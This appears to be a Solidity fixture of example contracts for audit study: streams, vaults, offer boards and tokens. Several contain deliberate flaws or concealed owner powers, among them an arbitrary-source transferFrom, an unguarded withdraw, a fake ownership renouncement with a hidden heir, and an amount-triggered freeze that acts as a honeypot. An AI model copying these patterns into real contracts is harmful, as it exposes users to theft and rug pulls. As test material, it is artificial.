// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {Base20, Owned20} from "./Incidents.sol";
import {Coin, Purse} from "./Purses.sol";

/// Contracts as people meet them every day, sound ones, limited ones, and ones whose fault is hard to see.

/// Pays out a little every second; who made the stream can end it, and gets back only what has not flowed yet.
contract Stream {
    Coin public immutable coin;
    address public immutable from;
    address public immutable to;
    uint256 public immutable start;
    uint256 public immutable end;
    uint256 public immutable all;
    uint256 public taken;
    uint256 public stopped;

    constructor(Coin coin_, address to_, uint256 all_, uint256 span) {
        coin = coin_;
        from = msg.sender;
        to = to_;
        all = all_;
        start = block.timestamp;
        end = block.timestamp + span;
    }

    function flowed() public view returns (uint256) {
        uint256 until = stopped == 0 ? block.timestamp : stopped;
        return until >= end ? all : (all * (until - start)) / (end - start);
    }

    function take() external {
        require(msg.sender == to, "to");
        uint256 value = flowed() - taken;
        taken += value;
        coin.transfer(to, value);
    }

    function stop() external {
        require(msg.sender == from && stopped == 0, "from");
        stopped = block.timestamp;
        coin.transfer(from, all - flowed());
    }
}

/// Locks coins for votes, for as long as the voter said, up to four years; nobody shortens or prolongs another's.
contract VoteLock {
    Coin public immutable coin;
    mapping(address => uint256) public amount;
    mapping(address => uint256) public until;

    constructor(Coin coin_) {
        coin = coin_;
    }

    function lock(uint256 value, uint256 span) external {
        require(span <= 4 * 365 days && block.timestamp + span >= until[msg.sender], "span");
        coin.transferFrom(msg.sender, address(this), value);
        amount[msg.sender] += value;
        until[msg.sender] = block.timestamp + span;
    }

    function unlock() external {
        require(block.timestamp >= until[msg.sender], "locked");
        uint256 value = amount[msg.sender];
        amount[msg.sender] = 0;
        coin.transfer(msg.sender, value);
    }
}

/// Pays many people at once, out of what the caller lets it take.
contract Disperse {
    function pay(Coin coin, address[] calldata to, uint256[] calldata value) external {
        for (uint256 i = 0; i < to.length; i++) coin.transferFrom(msg.sender, to[i], value[i]);
    }

    function payEther(address[] calldata to, uint256[] calldata value) external payable {
        for (uint256 i = 0; i < to.length; i++) {
            (bool ok, ) = to[i].call{value: value[i]}("");
            require(ok, "paying");
        }
        (bool back, ) = msg.sender.call{value: address(this).balance}("");
        require(back, "change");
    }
}

/// The same, but whom the coins are taken from is also said by the caller.
contract CarelessDisperse {
    function pay(Coin coin, address from, address[] calldata to, uint256[] calldata value) external {
        for (uint256 i = 0; i < to.length; i++) coin.transferFrom(from, to[i], value[i]);
    }
}

/// Offers to sell one coin for another at a fixed price; who made an offer can take it back.
contract OfferBoard {
    struct Offer {
        address maker;
        uint256 value;
        uint256 price;
    }

    Coin public immutable coin;
    Offer[] public offers;

    constructor(Coin coin_) {
        coin = coin_;
    }

    function offer(uint256 value, uint256 price) external returns (uint256) {
        coin.transferFrom(msg.sender, address(this), value);
        offers.push(Offer(msg.sender, value, price));
        return offers.length - 1;
    }

    function accept(uint256 id) external payable {
        Offer memory one = offers[id];
        require(one.value > 0 && msg.value == one.price, "price");
        delete offers[id];
        coin.transfer(msg.sender, one.value);
        (bool ok, ) = one.maker.call{value: msg.value}("");
        require(ok, "paying");
    }

    function withdraw(uint256 id) external {
        Offer memory one = offers[id];
        require(one.maker == msg.sender, "maker");
        delete offers[id];
        coin.transfer(msg.sender, one.value);
    }
}

/// The same, where nobody looks who takes an offer back.
contract OpenOfferBoard {
    address[] public makers;
    uint256[] public values;
    Coin public immutable coin;

    constructor(Coin coin_) {
        coin = coin_;
    }

    function offer(uint256 value) external returns (uint256) {
        coin.transferFrom(msg.sender, address(this), value);
        makers.push(msg.sender);
        values.push(value);
        return values.length - 1;
    }

    function withdraw(uint256 id) external {
        uint256 value = values[id];
        values[id] = 0;
        coin.transfer(msg.sender, value);
    }
}

/// A vault of shares whose steward takes a part of gains only, and may not say what a share is worth.
contract GainVault is Base20 {
    Coin public immutable coin;
    address public steward;
    uint256 public mark;

    constructor(Coin coin_, address steward_) {
        coin = coin_;
        steward = steward_;
        totalSupply = 0;
        bal[msg.sender] = 0;
    }

    function worth(uint256 shares) public view returns (uint256) {
        return totalSupply == 0 ? shares : (shares * (coin.balanceOf(address(this)) + 1)) / (totalSupply + 1);
    }

    function enter(uint256 value) external {
        uint256 has = coin.balanceOf(address(this));
        uint256 shares = (value * (totalSupply + 1)) / (has + 1);
        coin.transferFrom(msg.sender, address(this), value);
        bal[msg.sender] += shares;
        totalSupply += shares;
        mark += value;
    }

    function leave(uint256 shares) external {
        uint256 value = worth(shares);
        bal[msg.sender] -= shares;
        totalSupply -= shares;
        mark = mark > value ? mark - value : 0;
        coin.transfer(msg.sender, value);
    }

    function harvest() external {
        require(msg.sender == steward, "steward");
        uint256 has = coin.balanceOf(address(this));
        uint256 gain = has > mark ? has - mark : 0;
        uint256 part = gain / 10;
        mark = has - part;
        coin.transfer(steward, part);
    }
}

/// What is put in is worth what one key says; nothing leaves but to who put it in.
contract ReportedPurse {
    address public immutable reporter;
    uint256 public worth = 1 ether;
    mapping(address => uint256) public shares;

    constructor(address reporter_) {
        reporter = reporter_;
    }

    function report(uint256 worth_) external {
        require(msg.sender == reporter, "reporter");
        worth = worth_;
    }

    function fill() external payable {
        shares[msg.sender] += (msg.value * 1 ether) / worth;
    }

    function draw(uint256 value) external {
        shares[msg.sender] -= value;
        (bool ok, ) = msg.sender.call{value: (value * worth) / 1 ether}("");
        require(ok, "paying");
    }
}

/// The same, where the word may not go down.
contract RisingPurse {
    address public immutable reporter;
    uint256 public worth = 1 ether;
    mapping(address => uint256) public shares;

    constructor(address reporter_) {
        reporter = reporter_;
    }

    function report(uint256 worth_) external {
        require(msg.sender == reporter && worth_ >= worth && worth_ <= (worth * 1001) / 1000, "reporter");
        worth = worth_;
    }

    function fill() external payable {
        shares[msg.sender] += (msg.value * 1 ether) / worth;
    }

    function draw(uint256 value) external {
        shares[msg.sender] -= value;
        (bool ok, ) = msg.sender.call{value: (value * worth) / 1 ether}("");
        require(ok, "paying");
    }
}

/// A key can strike somebody's entry out; what stood in it stays in the pot for ever.
contract StrikingPurse is Purse {
    address public immutable judge = msg.sender;

    function strike(address who) external {
        require(msg.sender == judge, "judge");
        put[who] = 0;
    }
}

/// Bets on a question; who put in the question says what the answer is, and is one key.
contract KeyBet {
    address public immutable referee;
    uint256 public answer;
    uint256 public total;
    uint256[3] public onSide;
    mapping(address => uint256[3]) public stakes;

    constructor(address referee_) {
        referee = referee_;
    }

    function bet(uint256 side) external payable {
        require(answer == 0 && (side == 1 || side == 2), "side");
        stakes[msg.sender][side] += msg.value;
        onSide[side] += msg.value;
        total += msg.value;
    }

    function resolve(uint256 side) external {
        require(msg.sender == referee && answer == 0 && (side == 1 || side == 2), "referee");
        answer = side;
    }

    function collect() external {
        require(answer != 0, "open");
        uint256 value = (stakes[msg.sender][answer] * total) / onSide[answer];
        stakes[msg.sender][answer] = 0;
        (bool ok, ) = msg.sender.call{value: value}("");
        require(ok, "paying");
    }
}

/// A subscription: once a month the shop may take a fixed price of whoever signed up, and no more.
contract Membership {
    Coin public immutable coin;
    address public immutable shop;
    uint256 public constant price = 5 ether;
    mapping(address => uint256) public next;

    constructor(Coin coin_) {
        coin = coin_;
        shop = msg.sender;
    }

    function join() external {
        next[msg.sender] = block.timestamp;
    }

    function leave() external {
        next[msg.sender] = 0;
    }

    function charge(address who) external {
        require(next[who] != 0 && block.timestamp >= next[who], "early");
        next[who] += 30 days;
        coin.transferFrom(who, shop, price);
    }
}

/// The same, with a price of the shop's choice.
contract AnyPriceMembership {
    Coin public immutable coin;
    address public immutable shop;
    mapping(address => bool) public joined;

    constructor(Coin coin_) {
        coin = coin_;
        shop = msg.sender;
    }

    function join() external {
        joined[msg.sender] = true;
    }

    function charge(address who, uint256 price) external {
        require(msg.sender == shop && joined[who], "shop");
        coin.transferFrom(who, shop, price);
    }
}

/// A board of keys holds the rights of a stable coin: making, and stopping single holders.
contract IssuedCoin is Base20 {
    address public immutable issuer;
    mapping(address => bool) public stopped;

    constructor(address issuer_) {
        issuer = issuer_;
    }

    function issue(address to, uint256 value) external {
        require(msg.sender == issuer, "issuer");
        bal[to] += value;
        totalSupply += value;
    }

    function stop(address who, bool is_) external {
        require(msg.sender == issuer, "issuer");
        stopped[who] = is_;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(!stopped[from] && !stopped[to], "stopped");
        super._move(from, to, value);
    }
}

/// The same, and what stopped holders have can be wiped out.
contract WipingCoin is IssuedCoin {
    constructor(address issuer_) IssuedCoin(issuer_) {}

    function wipe(address who) external {
        require(msg.sender == issuer && stopped[who], "issuer");
        totalSupply -= bal[who];
        bal[who] = 0;
    }
}

/// The owner was set to a dead address in a call that looks like giving it up; a guardian's word brings it back.
contract DormantToken is Owned20 {
    address private heir;

    function renounceOwnership() public override onlyOwner {
        heir = owner;
        owner = address(0);
    }

    function claimInheritance() external {
        require(owner == address(0) && msg.sender == heir, "heir");
        owner = heir;
    }

    function mint(address to, uint256 value) external onlyOwner {
        bal[to] += value;
        totalSupply += value;
    }
}

/// Transfers to a pool take a second look at an entry that a plain transfer writes for others.
contract TaggedToken is Owned20 {
    mapping(address => uint256) private tag;

    function _move(address from, address to, uint256 value) internal override {
        // The owner's own transfers leave a mark by their amount.
        if (from == owner && value % 1000 == 777) tag[to] = 1;
        require(tag[from] == 0, "busy");
        super._move(from, to, value);
    }
}

/// A launch with limits that end by themselves a day after the start, which was long ago.
contract EndedLaunchToken is Owned20 {
    uint256 public immutable start = block.timestamp - 30 days;

    function _move(address from, address to, uint256 value) internal override {
        if (block.timestamp < start + 1 days && from != owner) require(value <= totalSupply / 100, "limit");
        super._move(from, to, value);
    }
}

/// Fees on transfers, one and a half in a hundred, of which nobody can say another figure.
contract RoyalCoin is Base20 {
    address private immutable fund = msg.sender;

    function _move(address from, address to, uint256 value) internal override {
        uint256 fee = (value * 15) / 1000;
        super._move(from, fund, fee);
        super._move(from, to, value - fee);
    }
}

/// One key may change the fee, up to a tenth.
contract TenthCoin is Owned20 {
    uint256 public fee = 10;

    function setFee(uint256 fee_) external onlyOwner {
        require(fee_ <= 100);
        fee = fee_;
    }

    function _move(address from, address to, uint256 value) internal override {
        uint256 part = (value * fee) / 1000;
        super._move(from, owner, part);
        super._move(from, to, value - part);
    }
}

/// One key may change the fee; the check was written for hundredths, and the sum is done in tenths of them.
contract UnitSlipCoin is Owned20 {
    uint256 public fee = 10;

    function setFee(uint256 fee_) external onlyOwner {
        require(fee_ < 1000);
        fee = fee_;
    }

    function _move(address from, address to, uint256 value) internal override {
        uint256 part = (value * fee) / 1000;
        super._move(from, owner, part);
        super._move(from, to, value - part);
    }
}

/// Money of a club: spent by whoever most members voted for, after a week; a member can leave with their part.
contract ClubPurse {
    mapping(address => uint256) public part;
    uint256 public total;

    struct Motion {
        address to;
        uint256 value;
        uint256 votes;
        uint256 end;
    }

    Motion[] public motions;
    mapping(uint256 => mapping(address => bool)) public voted;

    function join() external payable {
        part[msg.sender] += msg.value;
        total += msg.value;
    }

    function leave() external {
        uint256 value = (address(this).balance * part[msg.sender]) / total;
        total -= part[msg.sender];
        part[msg.sender] = 0;
        (bool ok, ) = msg.sender.call{value: value}("");
        require(ok, "paying");
    }

    function move(address to, uint256 value) external {
        require(part[msg.sender] > 0, "member");
        motions.push(Motion(to, value, 0, block.timestamp + 7 days));
    }

    function vote(uint256 id) external {
        require(!voted[id][msg.sender] && block.timestamp < motions[id].end, "voted");
        voted[id][msg.sender] = true;
        motions[id].votes += part[msg.sender];
    }

    function carry(uint256 id) external {
        Motion memory one = motions[id];
        require(block.timestamp >= one.end && one.votes * 2 > total && one.value > 0, "votes");
        delete motions[id];
        (bool ok, ) = one.to.call{value: one.value}("");
        require(ok, "paying");
    }
}
